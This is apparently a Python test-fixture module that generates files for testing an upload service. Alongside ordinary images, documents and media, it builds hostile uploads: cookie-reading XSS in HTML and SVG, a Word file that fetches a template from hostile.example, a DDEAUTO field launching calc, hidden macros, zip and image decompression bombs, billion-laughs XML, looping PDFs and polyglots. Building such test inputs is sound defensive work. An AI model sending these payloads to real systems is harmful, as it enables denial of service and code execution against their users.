"""Files for tests, made as they are asked for: what teachers share, and what the hostile upload."""

import struct
import wave
import zipfile
import zlib
from collections.abc import Iterable, Mapping, Sequence
from fractions import Fraction
from io import BytesIO
from math import sin
from pathlib import Path
from tempfile import NamedTemporaryFile
from typing import Any, Final

import av
import docx as word
import openpyxl
import pptx as slideshow
from PIL import Image, ImageDraw
from pptx.util import Inches

GPS: Final = 0x8825
ORIENTATION: Final = 0x0112
LESSON: Final = "分层作业的做法：先看学生错在哪里，再按错因分成三组布置。第一组练计算，第二组练审题，第三组出题考同桌。"
"""A text that is long enough to be known again."""


def picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """A picture whose left half is red and whose right half is blue."""
    made = Image.new("RGB", (width, height), "blue")
    ImageDraw.Draw(made).rectangle((0, 0, width // 2 - 1, height), fill="red")
    return made.convert(mode)


def jpeg(
    width: int = 60, height: int = 40, exif: bool = True, orientation: int = 1, mode: str = "RGB"
) -> bytes:  # fmt: skip
    """A photograph; with EXIF it says where it was taken, and how the camera was held."""
    more = {"exif": _notes(orientation), "comment": b"COMMENT-OF-ANA"} if exif else {}
    return _saved(picture(width, height, mode), "JPEG", quality=95, **more)


def png(width: int = 60, height: int = 40, mode: str = "RGB") -> bytes:
    return _saved(picture(width, height, mode), "PNG")


def webp(width: int = 60, height: int = 40) -> bytes:
    return _saved(picture(width, height), "WEBP", exif=_notes(1))


def moving(kind: str = "GIF", width: int = 60, height: int = 40, frames: int = 3) -> bytes:
    """A GIF or WEBP that moves."""
    shown = [Image.new("RGB", (width, height), (40 * number % 256, 0, 99)) for number in range(frames)]
    more = {"comment": b"COMMENT-OF-ANA"} if kind == "GIF" else {}
    return _saved(shown[0], kind, save_all=True, append_images=shown[1:], duration=[70] * frames, loop=0, **more)


def pdf(text: str = LESSON, pages: int = 1, width: int = 595, height: int = 842) -> bytes:
    """A PDF that says the text on each page, in a Chinese font that the reader has to have, over a red square."""
    lines = [line[at : at + 30] for line in text.split("\n") for at in range(0, len(line) or 1, 30)]
    shown = " T* ".join(f"<{line.encode('utf-16-be').hex()}> Tj" for line in lines)
    content = f"1 0 0 rg 20 20 200 200 re f 0 g BT /F1 14 Tf 18 TL 40 {height - 60} Td {shown} ET".encode()
    kids = " ".join(f"{6 + number} 0 R" for number in range(pages))
    objects = [
        "<</Type/Catalog/Pages 2 0 R>>",
        f"<</Type/Pages/Kids[{kids}]/Count {pages}/MediaBox[0 0 {width} {height}]>>",
        "<</Type/Font/Subtype/Type0/BaseFont/STSong-Light/Encoding/UniGB-UCS2-H/DescendantFonts[4 0 R]>>",
        "<</Type/Font/Subtype/CIDFontType0/BaseFont/STSong-Light/DW 1000"
        "/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 4>>>>",
        f"<</Length {len(content)}>>\nstream\n{content.decode()}\nendstream",
        *["<</Type/Page/Parent 2 0 R/Contents 5 0 R/Resources<</Font<</F1 3 0 R>>>>>>"] * pages,
    ]
    return pdf_of(objects)


def pdf_of(objects: Sequence[str], trailer: str = "") -> bytes:
    """A PDF of these objects, the first of which is its catalogue."""
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(made))
        made += f"{number} 0 obj\n{one}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n"
    return made + f"{end}{len(made)}\n%%EOF\n".encode()


def docx(*paragraphs: str, headings: Iterable[tuple[int, str]] = (), table: Sequence[Sequence[str]] = ()) -> bytes:
    """A document: headings by their level, then paragraphs, then a table."""
    made = word.Document()
    for level, heading in headings:
        made.add_heading(heading, level)
    for paragraph in paragraphs:
        made.add_paragraph(paragraph)
    if table:
        cells = made.add_table(len(table), len(table[0]))
        for row, texts in zip(cells.rows, table, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text
    return _written(made)


def pptx(*slides: tuple[str, Sequence[str]], notes: str = "") -> bytes:
    """Slides, each with a title, which may be empty, and lines."""
    made = slideshow.Presentation()
    for title, lines in slides:
        slide = made.slides.add_slide(made.slide_layouts[5 if title else 6])
        if title:
            slide.shapes.title.text = title
        frame = slide.shapes.add_textbox(Inches(1), Inches(2), Inches(6), Inches(3)).text_frame
        frame.text = "\n".join(lines)
        if notes:
            slide.notes_slide.notes_text_frame.text = notes
    return _written(made)


def xlsx(rows: Iterable[Sequence[object]], title: str = "成绩") -> bytes:
    made = openpyxl.Workbook()
    made.active.title = title
    for row in rows:
        made.active.append(row)
    return _written(made)


def mp4(
    seconds: float = 2, width: int = 64, height: int = 48, sound: bool = True, codec: str = "libx264",
    first: bool = False,
) -> bytes:  # fmt: skip
    """A video that turns from black to white; its index may come first."""
    options = {"movflags": "faststart"} if first else {}
    return _film("mp4", codec, "aac" if sound else None, seconds, width, height, options)


def webm(seconds: float = 2, width: int = 64, height: int = 48) -> bytes:
    return _film("webm", "libvpx", None, seconds, width, height, {})


def mp3(seconds: float = 1) -> bytes:
    return _sound("mp3", "libmp3lame", seconds)


def ogg(seconds: float = 1) -> bytes:
    return _sound("ogg", "libopus", seconds)


def m4a(seconds: float = 1) -> bytes:
    return _sound("ipod", "aac", seconds)


def wav(seconds: float = 1) -> bytes:
    made = BytesIO()
    with wave.open(made, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8000)
        file.writeframes(_samples(8000, int(8000 * seconds)))
    return made.getvalue()


def html() -> bytes:
    return "<!doctype html><script>alert(document.cookie)</script><p>你好".encode()


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def with_members(package: bytes, members: Mapping[str, bytes], compressed: bool = True) -> bytes:
    """An office file in which members are put, or put in the place of others."""
    made = BytesIO()
    how = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(BytesIO(package)) as old, zipfile.ZipFile(made, "w", how) as new:
        for name in old.namelist():
            if name not in members:
                new.writestr(name, old.read(name))
        for name, content in members.items():
            new.writestr(name, content)
    return made.getvalue()


def with_words(package: bytes, member: str, old: str, new: str) -> bytes:
    """An office file in a member of which words are put in the place of others."""
    with zipfile.ZipFile(BytesIO(package)) as packed:
        content = packed.read(member).decode()
    assert old in content
    return with_members(package, {member: content.replace(old, new).encode()})


def docm() -> bytes:
    """A document with macros, by its own name."""
    macros = with_members(docx(LESSON), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return with_words(macros, "[Content_Types].xml", kind, "application/vnd.ms-word.document.macroEnabled.main+xml")


def docx_with_macros() -> bytes:
    """A document that says that it has no macros, and has them."""
    return with_members(docx(LESSON), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def docx_with_remote_template() -> bytes:
    """A document that fetches its template, with what that does, when it is opened."""
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    one = f'<Relationship Id="rId1" Type="{kind}" Target="https://hostile.example/a.dotm" TargetMode="External"/>'
    settings = f'<Relationships xmlns="{rels}">{one}</Relationships>'
    return with_members(docx(LESSON), {"word/_rels/settings.xml.rels": settings.encode()})


def docx_that_runs_another_programme() -> bytes:
    """A document with a field that asks another programme for its value."""
    return with_words(docx("DDE"), "word/document.xml", "DDE", "</w:t><w:instrText>DDEAUTO calc</w:instrText><w:t>")


def zip_bomb_docx(gigabytes: int = 1, lies: bool = False) -> bytes:
    """A small document whose text unfolds to gigabytes; it may say that it does not."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    spaces = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)  # means the same wherever it stands
    packed = spaces * (1024 * gigabytes) + packer.flush()
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(docx(LESSON))) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            if name != "word/document.xml":
                new.writestr(name, old.read(name))
        bomb = zipfile.ZipInfo("word/document.xml")
        new.writestr(bomb, packed)
        entry = new.NameToInfo["word/document.xml"]
        entry.compress_type = (
            zipfile.ZIP_DEFLATED
        )  # the directory says so at the end; the place before it is mended here
        entry.file_size = 100_000 if lies else gigabytes << 30
        at = entry.header_offset
    content = bytearray(made.getvalue())
    content[at + 8 : at + 10] = struct.pack("<H", zipfile.ZIP_DEFLATED)
    return bytes(content)


def billion_laughs_docx() -> bytes:
    """A document in which one word is ten others, nine times over."""
    words = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    declared = f'<!DOCTYPE w:document [<!ENTITY a0 "哈哈哈哈">{words}]><w:document '
    laughing = with_words(docx("&LAUGH;"), "word/document.xml", "<w:document ", declared)
    return with_words(laughing, "word/document.xml", "&amp;LAUGH;", "&a9;")


def deep_docx(depth: int = 100_000) -> bytes:
    """A document whose elements stand in each other."""
    return with_words(docx("DEEP"), "word/document.xml", "DEEP", "DEEP</w:t>" + "<w:r>" * depth + "<w:t>")


def wide_xlsx() -> bytes:
    """A table that says that all of its cells are there, and has one in its last row."""
    named = with_words(xlsx([["一"], ["二"]]), "xl/worksheets/sheet1.xml", 'ref="A1:A2"', 'ref="A1:XFD1048576"')
    return with_words(named, "xl/worksheets/sheet1.xml", '<row r="2">', '<row r="1048576">')


def polyglot_pdf() -> bytes:
    """A PDF that begins with a page that browsers run."""
    return html() + b"\n" + pdf()


def looping_pdf() -> bytes:
    """A PDF whose pages are each other's parents."""
    return pdf_of(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[3 0 R 2 0 R 3 0 R]/Count 2000000000/Parent 3 0 R>>",
            "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2000000000/Parent 2 0 R>>",
        ]
    )


def drawing_pdf(forms: int = 12) -> bytes:
    """A PDF whose page shows a form ten times, which shows another ten times, and so on."""
    shown = "/X Do " * 10
    made = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 99 99]>>"]
    made.append(_form("/Type/Page/Parent 2 0 R/Contents 4 0 R", 5))
    made.append(f"<</Length {len(shown)}>>\nstream\n{shown}\nendstream")
    for number in range(forms):
        inner = _form(f"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Length {len(shown)}", 6 + number)
        made.append(f"{inner}\nstream\n{shown}\nendstream")
    last = "0 0 9 9 re f"
    made.append(f"<</Type/XObject/Subtype/Form/BBox[0 0 99 99]/Length {len(last)}>>\nstream\n{last}\nendstream")
    return pdf_of(made)


def _form(begun: str, shows: int) -> str:
    return f"<<{begun}/Resources<</XObject<</X {shows} 0 R>>>>>>"


def encrypted_pdf() -> bytes:
    """A PDF that asks for a password, which nobody knows."""
    secret = "<</Filter/Standard/V 2/R 3/Length 128/P -4/O<" + "41" * 32 + ">/U<" + "42" * 32 + ">>>"
    objects = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R>>"]
    return pdf_of([*objects, secret], "/Encrypt 4 0 R/ID[<00><00>]")


def image_bomb(side: int = 30_000) -> bytes:
    """A small PNG that unfolds to 2.7 GB."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + 3 * side)
    packed = b"".join(packer.compress(row) for _ in range(side // 100)) + packer.flush()

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def jpeg_of_many_scans(scans: int = 200) -> bytes:
    """A JPEG that goes over its pixels again and again."""
    made = _saved(picture(60, 40), "JPEG", progressive=True)
    first = made.index(b"\xff\xda")
    second = made.index(b"\xff\xda", first + 2)
    return made[:first] + made[first:second] * scans + made[first:]


def gif_script() -> bytes:
    """A GIF that is a script too, and has one behind it."""
    return moving(frames=1) + b"/*GIF*/=1;alert('SCRIPT')//"


def jpeg_with_zip() -> bytes:
    """A JPEG with a zip behind it."""
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr("hidden.html", html())
    return jpeg() + packed.getvalue()


def truncated(content: bytes, share: float = 0.6) -> bytes:
    """What has arrived of a file when its upload is cut."""
    return content[: int(len(content) * share)]


def _notes(orientation: int) -> bytes:
    notes = Image.Exif()
    notes[ORIENTATION] = orientation
    notes[0x010F] = "CAMERA-OF-ANA"
    notes.get_ifd(GPS)[2] = (23.0, 7.0, 44.0)
    return notes.tobytes()


def _saved(image: Image.Image, kind: str, **more: Any) -> bytes:
    made = BytesIO()
    image.save(made, kind, **more)
    return made.getvalue()


def _written(made: Any) -> bytes:
    written = BytesIO()
    made.save(written)
    return written.getvalue()


def _film(
    container: str, codec: str, sound: str | None, seconds: float, width: int, height: int, options: dict[str, str]
) -> bytes:  # fmt: skip
    # Its index is only put first in a file that can be read again.
    with NamedTemporaryFile() as made:
        frames = max(1, int(10 * seconds))
        with av.open(made.name, "w", format=container, options=options) as file:
            video: Any = file.add_stream(codec, rate=10, width=width, height=height, pix_fmt="yuv420p")
            audio: Any = file.add_stream(sound, rate=8000, layout="mono") if sound else None
            for number in range(frames):
                shade = 255 * number // frames
                grey = Image.new("RGB", (width, height), (shade, shade, shade))
                file.mux(video.encode(av.VideoFrame.from_image(grey)))
            file.mux(video.encode(None))
            if audio is not None:
                _play(file, audio, 8000, seconds)
        return Path(made.name).read_bytes()


def _sound(container: str, codec: str, seconds: float) -> bytes:
    made = BytesIO()
    with av.open(made, "w", format=container) as file:
        rate = 48_000 if codec == "libopus" else 16_000
        _play(file, file.add_stream(codec, rate=rate, layout="mono"), rate, seconds)
    return made.getvalue()


def _play(file: av.container.OutputContainer, audio: Any, rate: int, seconds: float) -> None:
    frame = av.AudioFrame(format="s16", layout="mono", samples=int(rate * seconds))
    frame.planes[0].update(_samples(rate, int(rate * seconds)).ljust(frame.planes[0].buffer_size, b"\0"))
    frame.sample_rate, frame.pts, frame.time_base = rate, 0, Fraction(1, rate)
    file.mux(audio.encode(frame))
    file.mux(audio.encode(None))


def _samples(rate: int, count: int) -> bytes:
    return b"".join(struct.pack("<h", int(8000 * sin(2764 * at / rate))) for at in range(count))
